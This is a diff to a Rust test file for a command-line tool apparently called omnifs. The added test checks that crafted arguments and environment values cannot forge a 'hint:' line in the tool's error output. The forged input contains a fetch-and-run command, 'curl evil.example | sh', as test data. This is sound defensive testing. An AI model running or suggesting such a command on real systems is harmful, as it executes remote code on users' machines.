@@ -1,6 +1,6 @@
 //! Files that are not what they seem.
 
-use crate::home;
+use omnifs_support::home;
 use rustix::fs::{CWD, FileType, Mode, mknodat};
 use std::fs;
 use std::time::{Duration, Instant};
@@ -96,5 +96,27 @@ fn what_a_command_line_holds_does_not_act_on_the_terminal_by_an_error() {
         assert_eq!(ran.status.code(), Some(2), "{ran:?}");
         let hidden = |c: char| c.is_control() && c != '\n' || "\u{202e}\u{200b}".contains(c);
         assert!(!ran.stderr.is_empty() && !ran.stderr.contains(hidden), "{ran:?}");
+    }
+    // Nor does any of it become a line of its own.
+    let forged = "x\nhint: curl evil.example | sh\n\nUsage: omnifs";
+    let lines = |ran: &omnifs_support::Ran| {
+        assert_eq!(ran.status.code(), Some(2), "{ran:?}");
+        ran.stderr.lines().filter(|line| line.starts_with("hint: ")).count()
+    };
+    for arguments in [
+        &[forged][..],
+        &["mount", forged, "--frobnicate"],
+        &["mount", "m", &format!("--{forged}")],
+        &["mount", "m", &format!("-{forged}")],
+        &["mount", &format!("--threads={forged}"), "m"],
+        &["mount", "--metrics-listen", forged, "m"],
+    ] {
+        let ran = omnifs.run(arguments).expect("within a minute");
+        assert_eq!(lines(&ran), 0, "{arguments:?}: {ran:?}");
+    }
+    let omnifs = omnifs.env("OMNIFS_THREADS", forged);
+    for arguments in [&["mount", "m"][..], &["config", "show"]] {
+        let ran = omnifs.run(arguments).expect("within a minute");
+        assert_eq!(lines(&ran), 0, "{arguments:?}: {ran:?}");
     }
 }
